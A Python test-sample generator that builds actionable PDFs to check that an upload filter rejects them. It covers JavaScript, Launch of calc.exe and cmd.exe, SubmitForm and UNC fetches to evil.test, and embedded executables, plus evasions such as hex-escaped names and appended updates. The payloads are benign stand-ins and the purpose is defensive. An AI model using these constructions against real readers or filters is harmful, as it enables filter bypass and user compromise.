"""PDFs that act when they are opened, looked at or filled in; each as plain text, inside object streams, with its names
written in hex, and as an update behind a good file. By pikepdf (ISO 32000-2 section 12.6)."""

import io
import re
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from reportlab.pdfgen.canvas import Canvas
from sample import Sample

SCRIPT = "app.alert('hello from the document');"


def page() -> bytes:
    """A good PDF of one page."""
    out = io.BytesIO()
    canvas = Canvas(out, invariant=True)
    canvas.drawString(72, 700, "A page of text")
    canvas.save()
    return out.getvalue()


def action(kind: str, **entries: object) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **entries)


def script() -> Dictionary:
    return action("JavaScript", JS=String(SCRIPT))


def annotation(pdf: Pdf, **entries: object) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), **entries)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def on_open(pdf: Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(script())


def on_open_stream(pdf: Pdf) -> None:
    """The script is a stream of its own."""
    pdf.Root.OpenAction = pdf.make_indirect(action("JavaScript", JS=pdf.make_stream(SCRIPT.encode())))


def on_open_chain(pdf: Pdf) -> None:
    """A harmless action, and then another."""
    goto = action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=pdf.make_indirect(script()))
    pdf.Root.OpenAction = pdf.make_indirect(goto)


def on_close(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=pdf.make_indirect(script()))


def on_page(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(script()))


def named_script(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([String("start"), pdf.make_indirect(script())]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def on_click(pdf: Pdf) -> None:
    annotation(pdf, A=script())


def on_key(pdf: Pdf) -> None:
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), Rect=Array([0, 0, 9, 9]))
    field.AA = Dictionary(K=script())
    widget = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def rendition(pdf: Pdf) -> None:
    annotation(pdf, A=action("Rendition", OP=0, JS=String(SCRIPT)))


def launch(pdf: Pdf) -> None:
    pdf.Root.OpenAction = action("Launch", F=String("calc.exe"))


def launch_on_click(pdf: Pdf) -> None:
    annotation(pdf, A=action("Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))


def embedded(pdf: Pdf) -> None:
    pdf.attachments["invoice.exe"] = b"MZ not really a program"


def attached(pdf: Pdf) -> None:
    """A paper clip on the page instead of the document's list."""
    held = Dictionary(
        Type=Name.Filespec, F=String("a.docm"), EF=Dictionary(F=pdf.make_stream(b"held", Type=Name.EmbeddedFile))
    )
    clip = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=pdf.make_indirect(held))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(clip)])


def rich_media(pdf: Pdf) -> None:
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary())
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(media)])


def xfa(pdf: Pdf) -> None:
    form = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><config/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)


def submit(pdf: Pdf) -> None:
    annotation(pdf, A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://evil.test/"))))


def import_data(pdf: Pdf) -> None:
    annotation(pdf, A=action("ImportData", F=String("\\\\evil.test\\share\\a.fdf")))


def go_to_remote(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action("GoToR", F=String("\\\\evil.test\\share"), D=Array([0, Name.Fit])))


def go_to_embedded(pdf: Pdf) -> None:
    annotation(pdf, A=action("GoToE", T=Dictionary(R=Name.C, N=String("inner.pdf"))))


def plain(path: Path, pdf: Pdf) -> None:
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.disable, deterministic_id=True)


def streamed(path: Path, pdf: Pdf) -> None:
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate, deterministic_id=True)


ACTING = (
    "JavaScript",
    "JS",
    "Launch",
    "EmbeddedFiles",
    "EmbeddedFile",
    "EF",
    "RichMedia",
    "XFA",
    "SubmitForm",
    "ImportData",
    "GoToR",
    "GoToE",
    "OpenAction",
    "AA",
)


def spelled(path: Path, pdf: Pdf) -> None:
    """Every second character of each telling name as `#` and two digits (section 7.3.5)."""

    def in_hex(found: re.Match[bytes]) -> bytes:
        return b"/" + b"".join(b"#%02x" % byte if at % 2 else bytes([byte]) for at, byte in enumerate(found[1], 1))

    plain(path, pdf)
    names = b"|".join(name.encode() for name in ACTING)
    path.write_bytes(re.sub(rb"/(" + names + rb")\b", in_hex, path.read_bytes()))


def updated(path: Path, pdf: Pdf) -> None:
    """A good file first, and behind its end the one that acts, as an update."""
    plain(path, pdf)
    path.write_bytes(page() + path.read_bytes().removeprefix(b"%PDF-"))


FORMS = {"plain": plain, "streamed": streamed, "spelled": spelled, "updated": updated}
ACTS = [
    on_open,
    on_open_stream,
    on_open_chain,
    on_close,
    on_page,
    named_script,
    on_click,
    on_key,
    rendition,
    launch,
    launch_on_click,
    embedded,
    attached,
    rich_media,
    xfa,
    submit,
    import_data,
    go_to_remote,
    go_to_embedded,
]


def made(act: Callable[[Pdf], None], save: Callable[[Path, Pdf], None]) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with Pdf.open(io.BytesIO(page())) as pdf:
            act(pdf)
            save(path, pdf)

    return make


def encrypted(owner: str, user: str, level: int):
    def make(path: Path) -> None:
        with Pdf.open(io.BytesIO(page())) as pdf:
            pdf.save(
                path, encryption=pikepdf.Encryption(owner=owner, user=user, R=level, metadata=level > 3, aes=level > 3)
            )

    return make


def refused(name: str, make: Callable[[Path], None]) -> Sample:
    return Sample(f"evil-pdf-{name}", "pdf", make, "upload.content_denied")


SAMPLES = [
    *(
        refused(f"{act.__name__}-{form}".replace("_", "-"), made(act, save))
        for act in ACTS
        for form, save in FORMS.items()
    ),
    refused("encrypted", encrypted("owner", "user", 6)),
    refused("encrypted-without-a-password", encrypted("owner", "", 6)),
    refused("encrypted-rc4", encrypted("owner", "user", 3)),
]
